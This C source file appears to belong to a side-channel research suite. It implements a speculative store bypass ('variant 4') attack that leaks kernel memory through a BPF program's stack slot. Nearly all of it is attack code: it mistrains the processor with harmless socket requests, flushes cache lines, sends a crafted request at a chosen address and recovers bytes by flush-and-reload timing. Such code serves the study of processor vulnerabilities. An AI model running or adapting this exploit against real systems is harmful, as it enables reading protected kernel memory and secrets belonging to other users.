/*
 * Speculative store bypass (Horn, 2018; "variant 4") in the kernel: a slot on the stack of a BPF
 * program holds what the request says until a pointer is stored there. The address of that store
 * waits for a flushed line, so the load after it may be executed first and take the request's value
 * for the pointer. Harmless requests teach the processor that the load need not wait. When it is
 * repeated, it reads a zero of the table, which is sent as well.
 */
#include "attack.h"

#include <sys/socket.h>

#include "gadget.h"
#include "secret.h"

enum { TRAININGS = 20 };

static const uint8_t *array;
static int requests;

static void request(uint64_t value, int harmless)
{
	struct gadget_request packet = { .value = value, .harmless = harmless };

	if (send(requests, &packet, sizeof(packet), 0) != sizeof(packet))
		err(1, "request");
}

static int sample(int index)
{
	const uint8_t *probe = array + SHARED_PROBE;

	for (int i = 0; i < TRAININGS; i++)
		request(0, 1);
	use_secret(index);
	flush_probe(probe);
	flush(array + SHARED_LIMIT);
	memory_fence();
	request(options.address + index, 0);
	return reload_probe_beside(probe, 0);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address)
		errx(2, "expected --address");
	open_secret();
	array = map_gadget(options.gadget);
	requests = connect_to(options.requests, SOCK_DGRAM);
	calibrate();
	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
	return 0;
}
